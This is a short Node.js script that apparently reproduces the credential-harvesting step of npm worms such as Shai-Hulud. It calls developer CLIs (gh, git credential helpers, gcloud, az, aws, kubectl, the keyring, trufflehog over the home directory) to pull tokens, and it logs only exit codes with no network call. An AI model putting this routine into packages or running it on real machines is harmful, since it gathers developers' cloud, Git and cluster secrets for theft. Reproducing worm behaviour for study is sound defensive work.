// The token-harvesting step of recent npm worms (Shai-Hulud, s1ngularity), in plain Node.js:
// ask the developer's own CLIs for their tokens instead of reading files: gh, git's credential
// helpers, gcloud, az, aws, kubectl, the desktop keyring, and a secret scanner over the home.
// Each command is tried; the absent ones fail with ENOENT. Run as nobody without network:
// no real token exists or leaves the machine.
'use strict';
const { spawnSync } = require('child_process');
const os = require('os');

const tries = [
  ['gh', ['auth', 'token']],
  ['git', ['credential', 'fill'], 'protocol=https\nhost=github.com\n\n'],
  ['gcloud', ['auth', 'print-access-token']],
  ['az', ['account', 'get-access-token']],
  ['aws', ['configure', 'export-credentials']],
  ['kubectl', ['config', 'view', '--raw']],
  ['secret-tool', ['search', '--all', 'service', 'github']],
  ['trufflehog', ['filesystem', os.homedir(), '--json']],
];
const found = {};
for (const [cmd, args, input] of tries) {
  const r = spawnSync(cmd, args, {
    input, timeout: 20000, encoding: 'utf8',
    env: { ...process.env, GIT_TERMINAL_PROMPT: '0', CLOUDSDK_CORE_DISABLE_PROMPTS: '1' },
  });
  found[cmd] = r.error ? r.error.code : r.status;
}
console.log(JSON.stringify(found));
